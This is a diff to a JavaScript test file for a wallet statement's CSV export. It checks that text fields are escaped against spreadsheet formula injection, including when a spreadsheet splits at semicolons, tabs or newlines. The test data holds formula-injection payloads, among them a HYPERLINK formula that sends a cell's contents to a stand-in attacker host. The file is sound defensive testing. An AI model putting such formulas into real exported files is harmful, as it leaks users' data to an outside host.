@@ -101,16 +101,33 @@ describe("a wallet's statement", () => {
     expect(credit).to.include({ reference: `'${reference}`, method: 'operator' });
     const unseen = fc.string({ unit: fc.constantFrom(' ', '\u200b', '\ufeff', '\u2060', '\t') });
     const sign = fc.constantFrom('', ...'=+-@＝＋－＠');
-    const texts = fc.tuple(unseen, sign, fc.string({ unit: 'binary' }));
+    const end = fc.constantFrom('', ...';\t\n');
+    const texts = fc.tuple(unseen, sign, fc.string({ unit: 'binary' }), end, unseen, sign);
     fc.assert(
       fc.property(texts, (parts) => {
         const text = parts.join('');
         const field = textField(text);
         const [[parsed = ''] = []] = parseCsv(`${field}\r\n`);
-        expect(parsed.replace(/^'/, '')).to.equal(text.replace(/^'/, ''));
+        expect(parsed.replaceAll("'", '')).to.equal(text.replaceAll("'", ''));
         expect(parsed).not.to.match(/^[\s\u200b\u2060]*[=+\-@＝＋－＠]/);
       }),
     );
+  });
+
+  it('writes references so that no spreadsheet runs them that splits lines at semicolons or tabs', () => {
+    for (const text of [
+      'invoice 7;=HYPERLINK("https://evil.example/"&A1)',
+      'invoice 7; @SUM(1)',
+      'invoice 7;"=1+1"',
+      'a;b;+1',
+      'a\t-1',
+      'a\n＝1',
+    ]) {
+      for (const cell of `1.00,,${textField(text)}`.split(/[;\t\n]/)) {
+        expect(cell, text).not.to.match(/^[\s"]*[=+\-@＝]/);
+      }
+    }
+    for (const text of ['a; b', 'a;b=c', 'a-1', 'DE;Köln']) expect(textField(text)).to.equal(text);
   });
 
   it('refuses periods that are none, and more entries than it may have', async () => {
